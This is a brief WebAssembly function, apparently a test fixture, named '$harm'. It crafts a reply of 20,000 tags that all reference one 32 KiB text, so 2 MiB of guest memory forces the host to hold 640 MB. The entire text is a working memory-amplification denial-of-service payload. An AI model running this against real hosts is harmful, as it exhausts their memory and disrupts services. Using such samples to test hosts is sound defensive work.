;; Answers with 20,000 tags that all have the same text of 32 KiB: 640 MB for the host, in a memory of 2 MiB.
(func $harm
  (local $tag i32)
  (drop (memory.grow (i32.const 31)))
  (i32.store (i32.const 136) (i32.const 0x20000))
  (i32.store (i32.const 140) (i32.const 20000))
  (local.set $tag (i32.const 0x20000))
  (loop $again
    (i32.store offset=4 (local.get $tag) (i32.const 0x8000))
    (local.set $tag (i32.add (local.get $tag) (i32.const 64)))
    (br_if $again (i32.lt_u (local.get $tag) (i32.const 0x158800)))))
